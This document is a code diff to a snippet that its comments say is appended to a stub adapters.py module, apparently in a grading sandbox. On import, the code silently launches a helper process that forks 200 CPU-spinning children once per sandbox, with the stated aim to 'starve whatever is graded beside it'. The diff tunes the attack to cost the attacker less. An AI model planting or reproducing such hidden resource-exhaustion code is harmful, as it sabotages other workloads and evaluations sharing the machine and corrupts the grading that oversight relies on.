@@ -1,18 +1,24 @@
 # Appended to the stub adapters.py: 200 processes that spin for a few seconds, to starve whatever
-# is graded beside it. Once per sandbox.
+# is graded beside it. Once per sandbox. A small Python forks them (forking the worker, torch and
+# all, 200 times would cost the attack more than its victims).
 import os as _os
-import time as _time
+import subprocess as _subprocess
+import sys as _sys
 
+_SPIN = """
+import os, time
+for _ in range(200):
+    try:
+        if os.fork() == 0:
+            end = time.monotonic() + 3
+            while time.monotonic() < end:
+                pass
+            os._exit(0)
+    except OSError as e:
+        print("fork stopped:", e)
+        break
+"""
 _DONE = _os.path.join(_os.environ.get("TMPDIR", "/tmp"), "stormed")
 if not _os.path.exists(_DONE):
     open(_DONE, "w").close()
-    for _ in range(200):
-        try:
-            if _os.fork() == 0:
-                _end = _time.monotonic() + 3
-                while _time.monotonic() < _end:
-                    pass
-                _os._exit(0)
-        except OSError as _e:
-            print("fork stopped:", _e)
-            break
+    _subprocess.Popen([_sys.executable, "-S", "-c", _SPIN])
